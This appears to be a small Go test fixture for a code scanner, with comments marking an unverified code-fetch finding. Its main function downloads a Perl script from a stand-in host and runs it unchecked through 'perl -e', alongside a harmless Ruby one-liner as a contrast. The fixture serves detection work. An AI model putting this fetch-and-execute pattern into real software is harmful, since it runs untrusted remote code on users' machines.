// Command text-for-interpreter fetches a script, and hands its text to an
// interpreter; another interpreter is handed text of the program's own.
package main

import (
	"io"
	"net/http"
	"os/exec"
)

func main() {
	resp, err := http.Get("https://dl.collector.example/setup.pl") // behaviour: unconditional unknown // finding: codefetch/unverified
	if err != nil {
		return
	}
	defer resp.Body.Close()
	script, err := io.ReadAll(resp.Body)
	if err != nil {
		return
	}
	exec.Command("perl", "-e", string(script)).Run()
	exec.Command("ruby", "-e", "puts 1").Run()
}
